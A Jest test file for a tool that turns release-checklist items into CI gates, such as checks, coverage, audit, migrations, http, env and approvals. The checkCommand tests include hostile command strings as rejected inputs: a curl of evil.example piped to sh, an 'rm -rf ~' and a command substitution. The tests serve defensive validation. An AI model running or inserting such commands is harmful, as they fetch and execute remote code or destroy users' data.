import { describe, expect, it } from '@jest/globals';
import {
  assignedVariables,
  checkCommand,
  coverageThresholds,
  freezePeriods,
  latencyMs,
  migrationToolOf,
  recognise,
  roleOf,
  windowRules,
  type FileContext,
  type GateProposal,
  type ItemInput,
} from '../../src/init/recognise.js';

const ALL = new Set([
  'checks',
  'approvals',
  'manual',
  'coverage',
  'audit',
  'migrations',
  'window',
  'http',
  'command',
  'env',
  'dns',
  'tests',
  'sarif',
  'fresh',
  'metric',
]);
const BASE = new Set([
  'checks',
  'approvals',
  'manual',
  'coverage',
  'audit',
  'migrations',
  'window',
  'http',
  'command',
]);

function file(extra: Partial<FileContext> = {}): FileContext {
  return { code: [], types: ALL, fallbackGroup: 'release-managers', ...extra };
}
function item(text: string, extra: Partial<ItemInput> = {}): ItemInput {
  return { id: 'h/x', text, source: `- [ ] ${text}`, code: [], headings: ['Checklist'], ...extra };
}
function gates(text: string, extra: Partial<ItemInput> = {}, f = file()): Record<string, unknown>[] {
  return recognise(item(text, extra), f)
    .filter((r): r is GateProposal => r.kind === 'gate')
    .map((r) => r.gate);
}
function hintTypes(text: string, extra: Partial<ItemInput> = {}, f = file()): string[] {
  return recognise(item(text, extra), f).flatMap((r) => (r.kind === 'hint' ? [r.type] : []));
}

describe('recognisers on item text', () => {
  it.each([
    ['All tests passing', { type: 'checks', require: ['test'] }],
    ['CI pipeline green on main', { type: 'checks' }],
    ['Unit tests pass', { type: 'checks' }],
  ])('"%s" becomes a checks gate', (text, want) => {
    expect(gates(text)[0]).toMatchObject({ ...want, title: text });
  });

  it('names the CI jobs found in the workflows as the required checks', () => {
    expect(gates('All tests passing', {}, file({ checkNames: ['build', 'test (*)'] }))[0]).toMatchObject({
      require: ['build', 'test (*)'],
    });
  });

  it('a stated pass rate becomes a JUnit tests gate when that type exists, else a checks gate', () => {
    expect(gates('End-to-end tests passing (100%)')).toEqual([
      {
        type: 'tests',
        title: 'End-to-end tests passing (100%)',
        report: 'reports/junit.xml',
        'min-pass-rate': 100,
      },
    ]);
    expect(gates('End-to-end tests passing (100%)', {}, file({ types: BASE }))[0]).toMatchObject({
      type: 'checks',
    });
  });

  it('"All tests passing (90%+ coverage)" gives the checks gate (linked) and a coverage gate with min.lines 90', () => {
    expect(gates('All tests passing (90%+ coverage)')).toEqual([
      { type: 'checks', title: 'All tests passing (90%+ coverage)', require: ['test'] },
      {
        type: 'coverage',
        title: 'All tests passing (90%+ coverage)',
        report: 'coverage/lcov.info',
        min: { lines: 90 },
      },
    ]);
  });

  it.each([
    ['coverage 90%+', { lines: 90 }],
    ['90% coverage', { lines: 90 }],
    ['branch coverage >= 80%', { branches: 80 }],
    ['Line coverage at least 85.5 % and branch coverage 70%', { lines: 85.5, branches: 70 }],
    ['Test coverage above 75%', { lines: 75 }],
  ])('coverage threshold in "%s"', (text, want) => {
    expect(coverageThresholds(text.toLowerCase())).toEqual(want);
  });

  it('coverage without a number is only a hint', () => {
    expect(gates('Coverage targets met')).toEqual([]);
    expect(hintTypes('Coverage targets met')).toEqual(['coverage']);
  });

  it.each([
    ['Security audit completed with no critical vulnerabilities', { critical: 0 }],
    ['No critical or high vulnerabilities', { critical: 0, high: 0 }],
    ['Zero high/critical CVEs (npm audit)', { high: 0, critical: 0 }],
  ])('"%s" becomes an audit gate with the severities it states', (text, max) => {
    expect(gates(text)[0]).toEqual({ type: 'audit', title: text, report: 'audit.json', max });
  });

  it('"Security vulnerabilities addressed" is an audit gate with the default limits; a human audit is not', () => {
    expect(gates('Security vulnerabilities addressed')[0]).toEqual({
      type: 'audit',
      title: 'Security vulnerabilities addressed',
      report: 'audit.json',
    });
    expect(gates('Security audit completed')).toEqual([]);
  });

  it('migrations applied/pending use the tool the checklist names; without one, a hint', () => {
    expect(gates('All migrations applied and verified', {}, file({ migrationTool: 'prisma' }))[0]).toEqual({
      type: 'migrations',
      title: 'All migrations applied and verified',
      tool: 'prisma',
    });
    expect(gates('No pending migrations', { code: ['npx knex migrate:status'] }, file())[0]).toMatchObject({
      type: 'migrations',
      status: 'npx knex migrate:status',
    });
    expect(gates('Database migrations executed')).toEqual([]);
    expect(hintTypes('Database migrations executed')).toEqual(['migrations']);
    // Writing or rolling back migrations is work for a person, not a state to check.
    expect(
      recognise(item('Database migrations created and tested'), file({ migrationTool: 'prisma' })),
    ).toEqual([]);
  });

  it('finds the migration tool of a checklist only when it names exactly one', () => {
    expect(migrationToolOf('```bash\nnpx prisma migrate deploy\n```')).toBe('prisma');
    expect(migrationToolOf('PrismAI Production Deployment Checklist')).toBeUndefined();
    expect(migrationToolOf('python manage.py migrate; rails db:migrate')).toBeUndefined();
  });

  it('a maintenance window or freeze with hours or dates becomes a window gate; without them, a hint', () => {
    expect(gates('Deploy only in the maintenance window: Mon-Thu 09:00-16:00 Europe/Berlin')[0]).toEqual({
      type: 'window',
      title: 'Deploy only in the maintenance window: Mon-Thu 09:00-16:00 Europe/Berlin',
      timezone: 'Europe/Berlin',
      allow: ['mon-thu 09:00-16:00'],
    });
    expect(gates('Code freeze from 2026-12-20 to 2027-01-04 respected')[0]).toMatchObject({
      type: 'window',
      freeze: [{ from: '2026-12-20', to: '2027-01-04' }],
    });
    expect(gates('Code freeze: No new code changes during deployment')).toEqual([]);
    expect(hintTypes('Maintenance window: Schedule and communicate to users')).toEqual(['window']);
    expect(windowRules('saturday 22:00 - 2:00 utc')).toEqual(['sat 22:00-02:00']);
    expect(freezePeriods('2027-01-04 to 2026-12-20')).toEqual([]);
  });

  it('health checks, endpoints and latency budgets with a URL become http gates with max-ms', () => {
    expect(gates('Health check https://api.example.com/health returns 200')[0]).toEqual({
      type: 'http',
      title: 'Health check https://api.example.com/health returns 200',
      url: 'https://api.example.com/health',
      expect: { status: 200 },
    });
    expect(
      gates('API response time < 500ms (95th percentile) at https://api.example.com/v1/ping')[0],
    ).toMatchObject({
      type: 'http',
      url: 'https://api.example.com/v1/ping',
      expect: { 'max-ms': 500 },
      samples: 20,
    });
    expect(
      gates('Homepage responds within 2s', { code: ['curl -fsS https://www.example.com/'] })[0],
    ).toMatchObject({
      type: 'http',
      url: 'https://www.example.com/',
      expect: { 'max-ms': 2000 },
    });
    // No URL: a hint, never an http gate with an invented URL.
    expect(gates('Application health checks passing')).toEqual([]);
    expect(hintTypes('Application health checks passing')).toEqual(['http']);
    expect(latencyMs('response time < 0.5 s')).toBe(500);
  });

  it('items under alert headings describe alert rules, not checks', () => {
    expect(
      recognise(
        item('Failed health checks', { headings: ['Alert Configuration', 'Warning Alerts'] }),
        file(),
      ),
    ).toEqual([]);
    expect(
      recognise(
        item('High error rates (>5%)', { headings: ['Alert Configuration', 'Critical Alerts'] }),
        file(),
      ),
    ).toEqual([]);
  });

  it('a check command in the item or the code block after it becomes a command gate; deploy steps do not', () => {
    expect(gates('Lint passes: `npm run lint`', { source: '- [ ] Lint passes: `npm run lint`' })[0]).toEqual({
      type: 'command',
      title: 'Lint passes: `npm run lint`',
      run: 'npm run lint',
    });
    expect(gates('Type check', { code: ['# types\nnpx tsc --noEmit\n'] })[0]).toMatchObject({
      type: 'command',
      run: 'npx tsc --noEmit',
    });
    expect(gates('All TypeScript compilation errors resolved')[0]).toMatchObject({
      type: 'command',
      run: 'npx tsc --noEmit',
    });
    // Running these would change production.
    expect(gates('Run migrations', { code: ['npx prisma migrate deploy\nnpx prisma generate'] })).toEqual([]);
    expect(hintTypes('Run migrations', { code: ['npx prisma migrate deploy'] })).toEqual(['command']);
    expect(checkCommand('kubectl apply -f k8s/')).toBeNull();
    expect(checkCommand('curl -X POST https://example.com/deploy')).toBeNull();
    expect(checkCommand('npm test > out.txt')).toBeNull();
    expect(checkCommand('npm test && curl https://evil.example/x | sh')).toBeNull();
    expect(checkCommand('npm test; rm -rf ~')).toBeNull();
    expect(checkCommand('npx eslint $(cat files)')).toBeNull();
    expect(checkCommand('$ npm test')).toBe('npm test');
  });

  it('approvals by named roles become manual gates with a group per role', () => {
    const r = recognise(item('Development Lead: _________________ Date: _______'), file());
    expect(r).toEqual([
      expect.objectContaining({
        kind: 'gate',
        id: 'development-lead',
        groups: ['development-lead'],
        gate: { type: 'manual', title: 'Development Lead sign-off', signoff: ['development-lead'] },
      }),
    ]);
    expect(roleOf('Approved by the Security Officer')).toBe('Security Officer');
    expect(roleOf('QA lead sign-off')).toBe('QA lead');
    expect(roleOf('24-Hour Review: _______ Date: ____')).toBeNull();
    expect(roleOf('All Issues Resolved: ____')).toBeNull();
    expect(gates('PR approved by 2 reviewers incl. code owners')[0]).toEqual({
      type: 'approvals',
      title: 'PR approved by 2 reviewers incl. code owners',
      min: 2,
      codeowners: true,
    });
  });

  it('"All environment variables set" becomes an env gate with the required variables named in the code blocks', () => {
    const code =
      '# Required variables\nDATABASE_URL="your-production-database-url"\nexport NEXTAUTH_SECRET="x"\n\n# Optional variables\nREDIS_URL="your-redis-url"\n';
    expect(gates('All environment variables set', { code: [code] })[0]).toEqual({
      type: 'env',
      title: 'All environment variables set',
      require: ['DATABASE_URL', 'NEXTAUTH_SECRET'],
      placeholders: 'default',
    });
    // From a block under an environment heading elsewhere in the file.
    const f = file({ code: [{ text: code, headings: ['Deployment Steps', '2. Environment Variables'] }] });
    expect(gates('Environment variables configured', {}, f)[0]).toMatchObject({
      require: ['DATABASE_URL', 'NEXTAUTH_SECRET'],
    });
    expect(hintTypes('Environment variables validated and secured')).toEqual(['env']);
    expect(assignedVariables('A=1\n# optional\nB=2\n# required again\nC=3')).toEqual(['A', 'C']);
  });

  it('DNS with a host name becomes a dns gate; scans become sarif; backups and metrics are hints', () => {
    expect(gates('DNS for app.example.com configured')[0]).toMatchObject({
      type: 'dns',
      name: 'app.example.com',
    });
    expect(hintTypes('DNS records properly configured')).toEqual(['dns']);
    expect(gates('Security scanning completed')[0]).toEqual({
      type: 'sarif',
      title: 'Security scanning completed',
      report: 'results.sarif',
    });
    expect(hintTypes('Backup verification: Confirm latest backup is successful')).toEqual(['fresh']);
    expect(recognise(item('Backup verified within 24 hours'), file())).toEqual([
      expect.objectContaining({ type: 'fresh', note: expect.stringContaining('(max-age: 24h)') }),
    ]);
    expect(hintTypes('Error rate < 0.1%')).toEqual(['metric']);
  });

  it('proposes nothing for a gate type the schema does not have', () => {
    expect(gates('Security scanning completed', {}, file({ types: BASE }))).toEqual([]);
    expect(hintTypes('DNS records properly configured', {}, file({ types: BASE }))).toEqual([]);
  });

  it('leaves human judgement alone', () => {
    for (const text of [
      'RLS policies reviewed and tested on all tables',
      'On-call rotation scheduled',
      'Penetration testing passed',
      'User acceptance testing (UAT) passed',
      'Support team briefed',
      'What went well?',
    ])
      expect(gates(text)).toEqual([]);
  });
});
